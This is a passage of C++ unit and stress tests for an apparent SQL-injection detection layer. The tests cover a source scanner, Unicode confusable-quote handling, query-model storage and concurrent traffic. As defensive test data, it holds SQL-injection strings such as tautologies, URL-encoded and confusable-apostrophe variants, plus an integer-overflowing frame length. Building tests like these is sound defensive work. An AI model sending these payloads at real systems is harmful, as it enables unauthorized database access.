      "  std::string n = mysql_real_escape_string(param(request, \"n\"));\n"
      "  ctx.sql(\"SELECT id FROM users WHERE name = '\" + n + \"'\", "
      "\"q\");");
  EXPECT_TRUE(s.findings.empty()) << s.findings.size() << " finding(s)";
  ASSERT_EQ(s.sinks.size(), 1u);
  EXPECT_EQ(s.sinks[0].benign_text(),
            "SELECT id FROM users WHERE name = 'x'");
}

TEST(ScanDataflow, RawParameterIsTaintedUnsanitized) {
  AppScan s = findings_of(
      "  ctx.sql(\"SELECT id FROM users WHERE name = '\" + "
      "param(request, \"who\") + \"'\", \"q\");");
  ASSERT_EQ(s.findings.size(), 1u);
  EXPECT_EQ(s.findings[0].klass, FindingClass::kTaintedUnsanitized);
  EXPECT_EQ(s.findings[0].severity, Severity::kError);
  EXPECT_EQ(s.findings[0].source, "who");
  EXPECT_EQ(s.findings[0].context, SinkContext::kQuoted);
}

TEST(ScanDataflow, EscaperIntoNumericContextIsMismatch) {
  AppScan s = findings_of(
      "  std::string id = mysql_real_escape_string(param(request, "
      "\"id\"));\n"
      "  ctx.sql(\"SELECT * FROM t WHERE id = \" + id, \"q\");");
  ASSERT_EQ(s.findings.size(), 1u);
  EXPECT_EQ(s.findings[0].klass, FindingClass::kEscapeNumericMismatch);
  EXPECT_EQ(s.findings[0].context, SinkContext::kRaw);
  ASSERT_EQ(s.findings[0].sanitizers.size(), 1u);
  EXPECT_EQ(s.findings[0].sanitizers[0],
            Sanitizer::kMysqlRealEscapeString);
}

TEST(ScanDataflow, HtmlEncodersAreNotSqlSanitizers) {
  for (const char* fn : {"htmlentities", "htmlspecialchars"}) {
    AppScan s = findings_of(
        "  std::string v = " + std::string(fn) +
        "(param(request, \"v\"));\n"
        "  ctx.sql(\"SELECT id FROM t WHERE name = '\" + v + \"'\", "
        "\"q\");");
    ASSERT_EQ(s.findings.size(), 1u) << fn;
    EXPECT_EQ(s.findings[0].klass, FindingClass::kHtmlSqlMismatch) << fn;
    EXPECT_EQ(s.findings[0].severity, Severity::kError) << fn;
  }
}

TEST(ScanDataflow, IntvalNeutralizesAndSynthesizesNumericBenign) {
  AppScan s = findings_of(
      "  int64_t id = intval(param(request, \"id\"));\n"
      "  ctx.sql(\"SELECT * FROM t WHERE id = \" + std::to_string(id), "
      "\"q\");");
  EXPECT_TRUE(s.findings.empty());
  ASSERT_EQ(s.sinks.size(), 1u);
  EXPECT_EQ(s.sinks[0].benign_text(), "SELECT * FROM t WHERE id = 1");
}

TEST(ScanDataflow, PreparedBindsAreSafeAndTypeFaithful) {
  core::QmStore store;
  ScanReport::AppEntry e = scan_body(
      "  ctx.sql_prepared(\"INSERT INTO users (name, note) VALUES (?, "
      "?)\",\n"
      "      {sql::Value(param(request, \"n\")), sql::Value(param(request, "
      "\"note\"))},\n"
      "      \"add\");",
      store);
  EXPECT_TRUE(e.scan.findings.empty());
  ASSERT_EQ(e.scan.sinks.size(), 1u);
  EXPECT_TRUE(e.scan.sinks[0].prepared);
  // Bound string parameters must synthesize quoted literals so the benign
  // statement's item types match what the runtime binds.
  EXPECT_EQ(e.scan.sinks[0].benign_text(),
            "INSERT INTO users (name, note) VALUES ('x', 'x')");
  ASSERT_EQ(e.models.size(), 1u);
  EXPECT_EQ(e.models[0].id.rfind("demo:add#", 0), 0u) << e.models[0].id;
}

TEST(ScanDataflow, StoredReadbackIsSecondOrderWarning) {
  AppScan s = findings_of(
      "  auto rs = ctx.sql(\"SELECT note FROM users WHERE id = 1\", "
      "\"read\");\n"
      "  std::string note = rs.rows[0][0].coerce_string();\n"
      "  ctx.sql(\"SELECT id FROM t WHERE name = '\" + note + \"'\", "
      "\"hop\");");
  ASSERT_EQ(s.findings.size(), 1u);
  EXPECT_EQ(s.findings[0].klass, FindingClass::kStoredUnsanitized);
  EXPECT_EQ(s.findings[0].severity, Severity::kWarning);
  EXPECT_EQ(s.findings[0].source, "stored:read");
  EXPECT_EQ(s.findings[0].site, "hop");
}

TEST(ScanDataflow, ConditionalQueryBuildYieldsBothVariants) {
  AppScan s = findings_of(
      "  std::string q = \"SELECT id FROM refs WHERE 1=1\";\n"
      "  std::string year = mysql_real_escape_string(param(request, "
      "\"year\"));\n"
      "  if (!year.empty()) {\n"
      "    q += \" AND year = '\" + year + \"'\";\n"
      "  }\n"
      "  ctx.sql(std::move(q), \"search\");");
  ASSERT_EQ(s.sinks.size(), 2u);
  std::vector<std::string> tpls = {s.sinks[0].template_text(),
                                   s.sinks[1].template_text()};
  std::sort(tpls.begin(), tpls.end());
  EXPECT_EQ(tpls[0], "SELECT id FROM refs WHERE 1=1");
  EXPECT_EQ(tpls[1],
            "SELECT id FROM refs WHERE 1=1 AND year = '{param:year}'");
  EXPECT_TRUE(s.findings.empty());
}

TEST(ScanDataflow, EmptyDefaultTernaryYieldsBothVariants) {
  AppScan s = findings_of(
      "  std::string v = mysql_real_escape_string(param(request, \"v\"));\n"
      "  ctx.sql(\"SELECT * FROM t WHERE n = \" + (v.empty() ? \"0\" : v), "
      "\"q\");");
  ASSERT_EQ(s.sinks.size(), 2u);
  // The non-empty world still carries the escape-numeric mismatch.
  ASSERT_EQ(s.findings.size(), 1u);
  EXPECT_EQ(s.findings[0].klass, FindingClass::kEscapeNumericMismatch);
}

TEST(ScanDataflow, RouteLabelsAttachToFindings) {
  AppScan s = findings_of(
      "  if (request.path == \"/lookup\") {\n"
      "    ctx.sql(\"SELECT id FROM t WHERE n = '\" + param(request, "
      "\"n\") + \"'\", \"q\");\n"
      "  }");
  ASSERT_EQ(s.findings.size(), 1u);
  EXPECT_EQ(s.findings[0].route, "/lookup");
  ASSERT_EQ(s.sinks.size(), 1u);
  EXPECT_EQ(s.sinks[0].route, "/lookup");
}

// ---------------------------------------------------------------- QM emit

TEST(QmEmit, UnparseableTemplateBecomesFinding) {
  core::QmStore store;
  ScanReport::AppEntry e = scan_body(
      "  ctx.sql(\"FROBNICATE \" + param(request, \"x\"), \"bad\");", store);
  EXPECT_TRUE(has_class(e.scan, FindingClass::kTemplateParseError));
  EXPECT_TRUE(e.models.empty());
  EXPECT_EQ(store.model_count(), 0u);
}

TEST(QmEmit, EmittedIdsCarryTheExternalTag) {
  core::QmStore store;
  ScanReport::AppEntry e = scan_body(
      "  ctx.sql(\"SELECT id FROM users WHERE id = \" + "
      "std::to_string(intval(param(request, \"id\"))), \"one\");",
      store);
  ASSERT_EQ(e.models.size(), 1u);
  EXPECT_EQ(e.models[0].id.rfind("demo:one#", 0), 0u) << e.models[0].id;
  EXPECT_EQ(store.model_count(), 1u);
  // Without external IDs the key degrades to the internal ID alone,
  // matching a StackConfig with emit_external_ids = false.
  core::QmStore bare;
  ScannerConfig cfg;
  cfg.emit_external_ids = false;
  ScanReport::AppEntry e2 = scan_source(
      wrap("  ctx.sql(\"SELECT id FROM users WHERE id = \" + "
           "std::to_string(intval(param(request, \"id\"))), \"one\");"),
      "demo", "demo.cpp", bare, cfg);
  ASSERT_EQ(e2.models.size(), 1u);
  EXPECT_EQ(e2.models[0].id.find("demo:"), std::string::npos);
}

// ----------------------------------------------------------------- report

TEST(Report, JsonEscapeHandlesControlAndQuotes) {
  EXPECT_EQ(json_escape("a\"b\\c\nd\te"), "a\\\"b\\\\c\\nd\\te");
  EXPECT_EQ(json_escape(std::string(1, '\x01')), "\\u0001");
  EXPECT_EQ(json_escape("\xe2\x8a\xa5"), "\xe2\x8a\xa5");  // UTF-8 intact
}

TEST(Report, FileStemStripsDirAndExtension) {
  EXPECT_EQ(file_stem("src/web/apps/tickets.cpp"), "tickets");
  EXPECT_EQ(file_stem("plain"), "plain");
  EXPECT_EQ(file_stem("a/b.c.d"), "b.c");
}

TEST(Report, TextAndJsonAreDeterministic) {
  core::QmStore s1, s2;
  ScanReport r1, r2;
  const char* body =
      "  ctx.sql(\"SELECT id FROM t WHERE n = '\" + param(request, \"n\") "
      "+ \"'\", \"q\");";
  r1.apps.push_back(scan_body(body, s1));
  r2.apps.push_back(scan_body(body, s2));
  EXPECT_EQ(render_json(r1), render_json(r2));
  EXPECT_EQ(render_text(r1), render_text(r2));
  EXPECT_EQ(r1.errors(), 1u);
  EXPECT_EQ(r1.warnings(), 0u);
}

}  // namespace
}  // namespace septic::analysis

#include "common/unicode.h"

#include <gtest/gtest.h>

namespace septic::common {
namespace {

TEST(Utf8Decode, Ascii) {
  DecodedCp d = decode_utf8("A", 0);
  EXPECT_EQ(d.cp, U'A');
  EXPECT_EQ(d.len, 1);
}

TEST(Utf8Decode, TwoByte) {
  DecodedCp d = decode_utf8("\xca\xbc", 0);  // U+02BC
  EXPECT_EQ(d.cp, char32_t{0x02bc});
  EXPECT_EQ(d.len, 2);
}

TEST(Utf8Decode, ThreeByte) {
  DecodedCp d = decode_utf8("\xef\xbc\x9d", 0);  // U+FF1D
  EXPECT_EQ(d.cp, char32_t{0xff1d});
  EXPECT_EQ(d.len, 3);
}

TEST(Utf8Decode, FourByte) {
  DecodedCp d = decode_utf8("\xf0\x9f\x98\x80", 0);  // U+1F600
  EXPECT_EQ(d.cp, char32_t{0x1f600});
  EXPECT_EQ(d.len, 4);
}

TEST(Utf8Decode, MalformedPassesThroughAsByte) {
  DecodedCp d = decode_utf8("\xca", 0);  // truncated 2-byte sequence
  EXPECT_EQ(d.cp, char32_t{0xca});
  EXPECT_EQ(d.len, 1);
}

TEST(Utf8Decode, OverlongRejected) {
  // 0xC0 0x80 would be an overlong NUL; must not decode as U+0000.
  DecodedCp d = decode_utf8("\xc0\x80", 0);
  EXPECT_EQ(d.len, 1);
}

class Utf8RoundTrip : public ::testing::TestWithParam<char32_t> {};

TEST_P(Utf8RoundTrip, EncodeThenDecode) {
  char32_t cp = GetParam();
  std::string bytes = encode_utf8(cp);
  DecodedCp d = decode_utf8(bytes, 0);
  EXPECT_EQ(d.cp, cp);
  EXPECT_EQ(static_cast<size_t>(d.len), bytes.size());
}

INSTANTIATE_TEST_SUITE_P(CodePoints, Utf8RoundTrip,
                         ::testing::Values(0x24, 0x7f, 0x80, 0x2bc, 0x7ff,
                                           0x800, 0x2019, 0xff07, 0xffff,
                                           0x10000, 0x1f600, 0x10ffff));

TEST(DecodeAll, MixedContent) {
  auto cps = decode_all("a\xca\xbcz");
  ASSERT_EQ(cps.size(), 3u);
  EXPECT_EQ(cps[1], char32_t{0x02bc});
}

TEST(CodepointCount, CountsCodepointsNotBytes) {
  EXPECT_EQ(codepoint_count("abc"), 3u);
  EXPECT_EQ(codepoint_count("a\xca\xbc"), 2u);
  EXPECT_EQ(codepoint_count(""), 0u);
}

TEST(ServerCharsetConvert, ModifierApostropheBecomesQuote) {
  EXPECT_EQ(server_charset_convert("ID34FG\xca\xbc-- "), "ID34FG'-- ");
}

TEST(ServerCharsetConvert, RightSingleQuoteBecomesQuote) {
  EXPECT_EQ(server_charset_convert("\xe2\x80\x99"), "'");  // U+2019
}

TEST(ServerCharsetConvert, FullwidthApostrophe) {
  EXPECT_EQ(server_charset_convert("\xef\xbc\x87"), "'");  // U+FF07
}

TEST(ServerCharsetConvert, FullwidthEquals) {
  EXPECT_EQ(server_charset_convert("1\xef\xbc\x9d" "1"), "1=1");
}

TEST(ServerCharsetConvert, FullwidthParens) {
  EXPECT_EQ(server_charset_convert("\xef\xbc\x88x\xef\xbc\x89"), "(x)");
}

TEST(ServerCharsetConvert, PlainAsciiUntouched) {
  std::string q = "SELECT * FROM t WHERE a = 'b'";
  EXPECT_EQ(server_charset_convert(q), q);
}

TEST(ServerCharsetConvert, NonConfusableUnicodePreserved) {
  std::string s = "caf\xc3\xa9";  // café
  EXPECT_EQ(server_charset_convert(s), s);
}

TEST(HasConfusableQuote, DetectsAndRejects) {
  EXPECT_TRUE(has_confusable_quote("x\xca\xbcy"));
  EXPECT_TRUE(has_confusable_quote("1\xef\xbc\x9d" "1"));
  EXPECT_FALSE(has_confusable_quote("plain ascii ' quote"));
  EXPECT_FALSE(has_confusable_quote("caf\xc3\xa9"));
}

TEST(UrlDecode, Basic) {
  EXPECT_EQ(url_decode("a%20b"), "a b");
  EXPECT_EQ(url_decode("a+b"), "a b");
  EXPECT_EQ(url_decode("a+b", /*plus_as_space=*/false), "a+b");
  EXPECT_EQ(url_decode("%27%20OR%201%3D1"), "' OR 1=1");
}

TEST(UrlDecode, InvalidEscapePassesThrough) {
  EXPECT_EQ(url_decode("100%zz"), "100%zz");
  EXPECT_EQ(url_decode("%"), "%");
  EXPECT_EQ(url_decode("%2"), "%2");
}

TEST(UrlDecode, DoubleEncodingDecodesOneLayer) {
  EXPECT_EQ(url_decode("%252e"), "%2e");
}

TEST(UrlEncode, RoundTripsThroughDecode) {
  std::string original = "a b&c=d'e\"f\xca\xbc";
  EXPECT_EQ(url_decode(url_encode(original)), original);
}

TEST(UrlEncode, UnreservedUntouched) {
  EXPECT_EQ(url_encode("AZaz09-_.~"), "AZaz09-_.~");
}

}  // namespace
}  // namespace septic::common

// Concurrency regression suite for the lock-free SEPTIC hot path: the
// sharded QM store, the config-snapshot/atomic-stats Septic, the
// thread-pool server, and the accept-loop/Exec-framing hardening. The
// stress tests reconcile counters *exactly* — under relaxed atomics and a
// worker pool, "roughly right" totals would hide dropped or double-counted
// queries — and the whole file is expected to run clean under the tsan
// preset.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <memory>
#include <optional>
#include <string>
#include <thread>
#include <vector>

#include "common/failpoint.h"
#include "engine/database.h"
#include "engine/error.h"
#include "net/client.h"
#include "net/protocol.h"
#include "net/server.h"
#include "septic/query_model.h"
#include "septic/septic.h"
#include "sqlcore/item.h"
#include "sqlcore/parser.h"

namespace septic {
namespace {

core::QueryModel model_of(const std::string& sql) {
  sql::ParsedQuery parsed = sql::parse(sql);
  return core::make_query_model(sql::build_item_stack(parsed.statement));
}

// ------------------------------------------------------ sharded QM store

TEST(QmStoreSharding, ShardCountRoundsUpToPowerOfTwo) {
  EXPECT_EQ(core::QmStore(1).shard_count(), 1u);
  EXPECT_EQ(core::QmStore(5).shard_count(), 8u);
  EXPECT_EQ(core::QmStore(16).shard_count(), 16u);
  EXPECT_EQ(core::QmStore().shard_count(), core::QmStore::kDefaultShards);
}

TEST(QmStoreSharding, SnapshotIsImmutableAcrossLaterAdds) {
  core::QmStore store;
  ASSERT_TRUE(store.add("id1", model_of("SELECT a FROM t WHERE a = 1")));
  core::QmStore::ModelSet before = store.snapshot("id1");
  ASSERT_TRUE(before);
  EXPECT_EQ(before->size(), 1u);
  ASSERT_TRUE(store.add("id1", model_of("SELECT a FROM t WHERE a = 'x'")));
  // The pinned snapshot still sees exactly the set it pinned.
  EXPECT_EQ(before->size(), 1u);
  core::QmStore::ModelSet after = store.snapshot("id1");
  ASSERT_TRUE(after);
  EXPECT_EQ(after->size(), 2u);
}

TEST(QmStoreSharding, LookupApplyRunsOnlyWhenPresent) {
  core::QmStore store;
  store.add("known", model_of("SELECT a FROM t WHERE a = 1"));
  size_t seen = 0;
  EXPECT_TRUE(store.lookup_apply(
      "known", [&](const std::vector<core::QueryModel>& models) {
        seen = models.size();
      }));
  EXPECT_EQ(seen, 1u);
  EXPECT_FALSE(store.lookup_apply(
      "absent", [&](const std::vector<core::QueryModel>&) { ++seen; }));
  EXPECT_EQ(seen, 1u);
}

TEST(QmStoreSharding, ConcurrentAddersAndReadersReconcile) {
  core::QmStore store(8);
  // Distinct model per (id, writer): literal type is part of the model, so
  // int vs string vs float literals give distinct models per shape.
  const std::vector<core::QueryModel> variants = {
      model_of("SELECT a FROM t WHERE a = 1"),
      model_of("SELECT a FROM t WHERE a = 'x'"),
      model_of("SELECT a FROM t WHERE a = 1.5"),
      model_of("SELECT a FROM t WHERE a = 1 AND b = 2"),
  };
  constexpr int kIds = 16;
  constexpr int kWriters = 4;
  std::atomic<uint64_t> added{0};
  std::atomic<bool> stop{false};
  std::thread reader([&] {
    // Hammer snapshots while writers publish: under TSan this is the
    // copy-on-write race detector.
    while (!stop.load()) {
      for (int i = 0; i < kIds; ++i) {
        core::QmStore::ModelSet s = store.snapshot("id" + std::to_string(i));
        if (s) {
          volatile size_t n = s->size();
          (void)n;
        }
      }
    }
  });
  std::vector<std::thread> writers;
  for (int w = 0; w < kWriters; ++w) {
    writers.emplace_back([&, w] {
      for (int round = 0; round < 50; ++round) {
        for (int i = 0; i < kIds; ++i) {
          if (store.add("id" + std::to_string(i),
                        variants[static_cast<size_t>(w)])) {
            added.fetch_add(1);
          }
        }
      }
    });
  }
  for (auto& t : writers) t.join();
  stop.store(true);
  reader.join();
  // Every (id, variant) pair was added exactly once; duplicates refused.
  EXPECT_EQ(added.load(), static_cast<uint64_t>(kIds * kWriters));
  EXPECT_EQ(store.id_count(), static_cast<size_t>(kIds));
  EXPECT_EQ(store.model_count(), static_cast<size_t>(kIds * kWriters));
}

// ------------------------------------- train_on mode-flip regression (a)

// The old code re-read mode() under a fresh lock *after* storing the model;
// a set_mode(Prevention) racing that window made a kTraining-mode query
// enqueue an admin-review entry it never should have (training-mode models
// are trusted by definition). train_on now receives the same Config
// snapshot the query dispatched under.
TEST(SepticModeFlip, TrainingQueryNeverLandsInReviewQueue) {
  engine::Database db;
  db.execute_admin("CREATE TABLE mf (id INT PRIMARY KEY, v TEXT)");
  auto septic = std::make_shared<core::Septic>();
  septic->set_mode(core::Mode::kTraining);
  db.set_interceptor(septic);

  common::failpoints::arm("septic.train_on.stall", 1);
  std::thread trainer([&] {
    engine::Session s("trainer");
    db.execute(s, "SELECT v FROM mf WHERE id = 7");
  });
  // Flip to prevention while train_on is stalled between the store update
  // and the (old) fresh mode read.
  while (common::failpoints::hit_count("septic.train_on.stall") == 0) {
    std::this_thread::sleep_for(std::chrono::milliseconds(1));
  }
  septic->set_mode(core::Mode::kPrevention);
  trainer.join();
  common::failpoints::disarm_all();

  EXPECT_EQ(septic->stats().models_created, 1u);
  EXPECT_EQ(septic->store().model_count(), 1u);
  // The query ran under kTraining: its model is trusted, not reviewable.
  EXPECT_EQ(septic->review_queue().pending_count(), 0u);
}

// ------------------------------------------- accept() failure backoff (b)

TEST(NetAcceptBackoff, SurvivesAcceptFailuresAndRecovers) {
  engine::Database db;
  db.execute_admin("CREATE TABLE ab (id INT PRIMARY KEY, v TEXT)");
  db.execute_admin("INSERT INTO ab VALUES (1, 'x')");
  net::Server server(db, 0);
  server.start();
  // The next 3 accept() returns are turned into failures (the EMFILE
  // shape: the pending connection cannot be taken). The loop must back
  // off instead of spinning, keep counting, and accept normally after.
  common::failpoints::arm("net.server.accept.fail", 3);
  net::RetryPolicy policy;
  policy.max_attempts = 10;
  policy.base_backoff_ms = 2;
  net::Client c(server.port());
  EXPECT_NO_THROW(c.query_with_retry("SELECT v FROM ab WHERE id = 1", policy));
  common::failpoints::disarm_all();
  EXPECT_EQ(server.accept_failures(), 3u);
  // Recovery: fresh connections work first try.
  net::Client d(server.port());
  EXPECT_NO_THROW(d.query("SELECT v FROM ab WHERE id = 1"));
  c.quit();
  d.quit();
  server.stop();
}

// -------------------------------------------- Exec framing overflow (c)

namespace raw {

int connect_to(uint16_t port) {
  int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    ::close(fd);
    return -1;
  }
  return fd;
}

bool send_all(int fd, const std::string& bytes) {
  size_t sent = 0;
  while (sent < bytes.size()) {
    ssize_t w = ::send(fd, bytes.data() + sent, bytes.size() - sent, 0);
    if (w <= 0) return false;
    sent += static_cast<size_t>(w);
  }
  return true;
}

std::optional<net::Frame> read_frame(int fd, net::FrameDecoder& dec) {
  if (auto f = dec.next()) return f;
  char buf[512];
  for (;;) {
    ssize_t n = ::recv(fd, buf, sizeof(buf), 0);
    if (n <= 0) return std::nullopt;
    dec.feed(std::string_view(buf, static_cast<size_t>(n)));
    if (auto f = dec.next()) return f;
  }
}

}  // namespace raw

TEST(NetExecFraming, HugeDeclaredParamLengthIsRejectedNotWrapped) {
  engine::Database db;
  db.execute_admin("CREATE TABLE ef (id INT PRIMARY KEY, v TEXT)");
  db.execute_admin("INSERT INTO ef VALUES (1, 'x')");
  net::Server server(db, 0);
  server.start();

  int fd = raw::connect_to(server.port());
  ASSERT_GE(fd, 0);
  net::FrameDecoder dec;
  ASSERT_TRUE(raw::send_all(
      fd, net::encode_frame({net::Opcode::kPrepare,
                        "SELECT v FROM ef WHERE id = ?"})));
  auto prep = raw::read_frame(fd, dec);
  ASSERT_TRUE(prep.has_value());
  ASSERT_EQ(prep->op, net::Opcode::kOk);
  ASSERT_EQ(prep->payload, "stmt=1");

  // Declared parameter length near SIZE_MAX: `colon + 1 + len` wraps to a
  // small number, so the old bounds check passed and the server read far
  // past the payload. The check must compare against the bytes that
  // actually remain.
  std::string payload = "1";
  payload += '\x1f';
  payload += "18446744073709551614:I1";
  ASSERT_TRUE(raw::send_all(fd, net::encode_frame({net::Opcode::kExec, payload})));
  auto reply = raw::read_frame(fd, dec);
  ASSERT_TRUE(reply.has_value());
  EXPECT_EQ(reply->op, net::Opcode::kError);
  EXPECT_NE(reply->payload.find("SYNTAX"), std::string::npos)
      << reply->payload;
  EXPECT_NE(reply->payload.find("truncated parameter"), std::string::npos)
      << reply->payload;

  // The connection survived the rejected frame: a well-formed Exec on the
  // same prepared statement still answers.
  std::string good = "1";
  good += '\x1f';
  good += "2:I1";
  ASSERT_TRUE(raw::send_all(fd, net::encode_frame({net::Opcode::kExec, good})));
  auto ok = raw::read_frame(fd, dec);
  ASSERT_TRUE(ok.has_value());
  EXPECT_EQ(ok->op, net::Opcode::kRows);
  ::close(fd);
  server.stop();
}

// ------------------------------------------------ full-stack stress (d)

// N client threads drive mixed benign/attack traffic at a prevention-mode
// server through the real net stack; every counter in the system must
// reconcile exactly afterwards: nothing lost, nothing double-counted, no
// attack executed, no benign query dropped.
TEST(StressConcurrency, MixedTrafficStatsReconcileExactly) {
  engine::Database db;
  db.execute_admin("CREATE TABLE st (id INT PRIMARY KEY, v TEXT)");
  std::string insert = "INSERT INTO st VALUES ";
  for (int i = 1; i <= 64; ++i) {
    if (i > 1) insert += ", ";
    insert += "(" + std::to_string(i) + ", 'v" + std::to_string(i) + "')";
  }
  db.execute_admin(insert);
  const uint64_t setup_executed = db.executed_count();

  // Interceptor installed only after setup so the counters below start
  // from a clean slate.
  auto septic = std::make_shared<core::Septic>();
  septic->set_mode(core::Mode::kTraining);
  db.set_interceptor(septic);
  {
    engine::Session s("trainer");
    db.execute(s, "SELECT id, v FROM st WHERE id = 1");
  }
  septic->set_incremental_learning(false);
  septic->set_mode(core::Mode::kPrevention);

  net::ServerOptions opts;
  opts.worker_threads = 4;  // force pool reuse AND overflow under 8 clients
  net::Server server(db, 0, opts);
  server.start();

  constexpr int kClients = 8;
  constexpr int kPerClient = 40;  // alternating benign / attack
  std::atomic<uint64_t> benign_ok{0};
  std::atomic<uint64_t> attack_blocked{0};
  std::atomic<uint64_t> unexpected{0};
  std::vector<std::thread> clients;
  for (int c = 0; c < kClients; ++c) {
    clients.emplace_back([&, c] {
      net::Client client(server.port());
      for (int i = 0; i < kPerClient; ++i) {
        int key = (c * 7 + i) % 64 + 1;
        bool attack = (i % 2) == 1;
        std::string sql =
            "SELECT id, v FROM st WHERE id = " + std::to_string(key);
        if (attack) sql += " OR '1'='1'";
        try {
          client.query(sql);
          if (attack) {
            ++unexpected;  // an attack executed
          } else {
            ++benign_ok;
          }
        } catch (const net::RemoteError& e) {
          if (attack && e.blocked()) {
            ++attack_blocked;
          } else {
            ++unexpected;  // benign dropped, or wrong error class
          }
        }
      }
      client.quit();
    });
  }
  for (auto& t : clients) t.join();
  server.stop();

  constexpr uint64_t kTotal = kClients * kPerClient;
  constexpr uint64_t kAttacks = kTotal / 2;
  constexpr uint64_t kBenign = kTotal - kAttacks;
  EXPECT_EQ(unexpected.load(), 0u);
  EXPECT_EQ(benign_ok.load(), kBenign);
  EXPECT_EQ(attack_blocked.load(), kAttacks);

  core::SepticStats stats = septic->stats();
  // +1 everywhere: the one training query.
  EXPECT_EQ(stats.queries_seen, kTotal + 1);
  EXPECT_EQ(stats.sqli_detected, kAttacks);
  EXPECT_EQ(stats.dropped, kAttacks);
  EXPECT_EQ(stats.models_created, 1u);
  EXPECT_EQ(stats.septic_internal_errors, 0u);
  EXPECT_EQ(db.executed_count(), setup_executed + 1 + kBenign);
  EXPECT_EQ(db.blocked_count(), kAttacks);
  EXPECT_EQ(server.connections_served(), static_cast<uint64_t>(kClients));
}

// ---------------------------------------- transactional stress (MVCC) (e)

// 8 threads drive mixed benign/attack multi-statement transactions against
// the embedded engine, each thread owning a disjoint row so commits never
// conflict — which makes every counter in the system exactly computable:
// SEPTIC's per-query stats, the engine's executed/blocked counters, and the
// transaction counters all reconcile to closed-form totals. Runs clean
// under the tsan preset: this is the MVCC snapshot/commit/write-set race
// detector.
TEST(StressConcurrency, TransactionalMixedTrafficReconcilesExactly) {
  engine::Database db;
  db.execute_admin("CREATE TABLE tx (id INT PRIMARY KEY, v TEXT)");
  {
    std::string insert = "INSERT INTO tx VALUES ";
    for (int i = 1; i <= 8; ++i) {
      if (i > 1) insert += ", ";
      insert += "(" + std::to_string(i) + ", 'seed')";
    }
    db.execute_admin(insert);
  }
  const uint64_t setup_executed = db.executed_count();

  auto septic = std::make_shared<core::Septic>();
  septic->set_mode(core::Mode::kTraining);
  db.set_interceptor(septic);
  {
    // One model per benign shape (literal values don't change the model).
    engine::Session s("trainer");
    db.execute(s, "SELECT v FROM tx WHERE id = 1");
    db.execute(s, "UPDATE tx SET v = 'seed' WHERE id = 1");
  }
  septic->set_incremental_learning(false);
  septic->set_mode(core::Mode::kPrevention);
  const uint64_t kTrained = 2;

  constexpr int kThreads = 8;
  constexpr int kRounds = 6;  // even: rounds alternate COMMIT / ROLLBACK
  std::atomic<uint64_t> unexpected{0};
  std::vector<std::thread> threads;
  for (int c = 0; c < kThreads; ++c) {
    threads.emplace_back([&, c] {
      engine::Session s("stress" + std::to_string(c));
      const std::string key = std::to_string(c + 1);
      for (int i = 0; i < kRounds; ++i) {
        try {
          db.execute(s, "BEGIN");
          // Benign read of this thread's own row. Only this thread writes
          // it, so the value is deterministic: the last COMMITted round's
          // update (rounds 0,2,4 commit), or the seed before any commit.
          auto rs = db.execute(s, "SELECT v FROM tx WHERE id = " + key);
          std::string expected =
              i == 0 ? "seed" : "r" + std::to_string((i - 1) / 2 * 2);
          if (rs.rows.size() != 1 || rs.rows[0][0].as_string() != expected) {
            ++unexpected;
          }
          // An attack inside the transaction: dropped, transaction stays
          // open (default containment policy).
          try {
            db.execute(s, "SELECT v FROM tx WHERE id = " + key +
                              " OR '1'='1'");
            ++unexpected;  // the attack executed
          } catch (const engine::DbError& e) {
            if (e.code() != engine::ErrorCode::kBlocked) ++unexpected;
          }
          db.execute(s, "UPDATE tx SET v = 'r" + std::to_string(i) +
                            "' WHERE id = " + key);
          db.execute(s, (i % 2) == 0 ? "COMMIT" : "ROLLBACK");
        } catch (const std::exception&) {
          ++unexpected;
        }
      }
    });
  }
  for (auto& t : threads) t.join();

  EXPECT_EQ(unexpected.load(), 0u);
  constexpr uint64_t kTxns = kThreads * kRounds;

  core::SepticStats stats = septic->stats();
  EXPECT_EQ(stats.queries_seen, kTrained + kTxns * 3);
  EXPECT_EQ(stats.sqli_detected, kTxns);
  EXPECT_EQ(stats.dropped, kTxns);
  EXPECT_EQ(stats.txn_blocked_stmts, kTxns);
  EXPECT_EQ(stats.models_created, kTrained);
  EXPECT_EQ(stats.septic_internal_errors, 0u);
  EXPECT_EQ(db.blocked_count(), kTxns);
  // Executed: the benign SELECT and UPDATE per round (BEGIN/COMMIT/ROLLBACK
  // are facade-handled, blocked attacks never execute).
  EXPECT_EQ(db.executed_count(), setup_executed + kTrained + kTxns * 2);

  engine::txn::TxnStats ts = db.txn_stats();
  EXPECT_EQ(ts.begun, kTxns);
  EXPECT_EQ(ts.committed, kTxns / 2);
  EXPECT_EQ(ts.rolled_back, kTxns / 2);
  EXPECT_EQ(ts.conflicts, 0u);        // disjoint rows: by construction
  EXPECT_EQ(ts.aborted_on_block, 0u); // default policy keeps txns open
  EXPECT_EQ(ts.begun, ts.committed + ts.rolled_back);
  EXPECT_FALSE(db.in_transaction());

  // Data verification last, with the interceptor detached: the COUNT shape
  // was never trained and every counter above is already pinned. Each
  // thread's last committed round is 4, so all rows end at 'r4'.
  db.set_interceptor(nullptr);
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM tx").rows[0][0].as_int(),
            8);
  for (int i = 1; i <= kThreads; ++i) {
    EXPECT_EQ(db.execute_admin("SELECT v FROM tx WHERE id = " +
                               std::to_string(i))
                  .rows[0][0]
                  .as_string(),
              "r4");
  }
}

// Config writers racing the hot path: flipping detection toggles while
// queries are in flight must never tear a Config (each query sees one
// coherent snapshot) nor deadlock. Counts cannot be asserted exactly here
// — which snapshot a query gets is the race — so this is the TSan canary.
TEST(StressConcurrency, ConfigFlipsDuringTrafficAreTearFree) {
  engine::Database db;
  db.execute_admin("CREATE TABLE cf (id INT PRIMARY KEY, v TEXT)");
  db.execute_admin("INSERT INTO cf VALUES (1, 'x')");
  auto septic = std::make_shared<core::Septic>();
  septic->set_mode(core::Mode::kTraining);
  db.set_interceptor(septic);
  {
    engine::Session s("trainer");
    db.execute(s, "SELECT v FROM cf WHERE id = 1");
  }
  septic->set_mode(core::Mode::kPrevention);

  std::atomic<bool> stop{false};
  std::thread flipper([&] {
    bool on = false;
    while (!stop.load()) {
